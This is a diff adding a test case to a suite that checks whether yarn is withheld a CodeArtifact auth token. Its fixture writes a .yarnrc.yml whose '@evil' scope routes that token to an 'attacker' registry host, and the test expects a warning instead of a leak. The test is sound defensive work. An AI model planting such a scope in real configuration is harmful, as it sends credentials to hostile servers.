@@ -178,6 +178,19 @@ describe("exec: yarn berry's YARN_NPM_AUTH_TOKEN only when every registry yarn w
     );
   });
 
+  it("a .yarnrc.yml handing `${CODEARTIFACT_AUTH_TOKEN}` to a scope on another host: yarn does not get it", async () => {
+    const box = project();
+    writeYarnProject(
+      box.project,
+      "@evil/pkg",
+      `npmRegistryServer: "${ours.url}"\nnpmScopes:\n  evil:\n    npmRegistryServer: "${attacker.url}"\n    npmAuthToken: "\${CODEARTIFACT_AUTH_TOKEN:-none}"\n`,
+    );
+    const result = await attack(box, ["exec", "--", ...yarn, "install"]);
+    expect(stderrLines(result.stderr)).toContain(
+      `warning: \`CODEARTIFACT_AUTH_TOKEN\` not set: \`${join(box.project, ".yarnrc.yml")}\`:5 (\`npmScopes.evil.npmAuthToken\`) hands it to yarn for a place that is not the token of a registry it was fetched for (${nerf(ours.url)}): remove that reference`,
+    );
+  });
+
   it(".npmrc names CodeArtifact, .yarnrc.yml does not: yarn's default is its own registry, so no yarn token", async () => {
     const box = project();
     box.projectNpmrc(`registry=${ours.url}\n`);
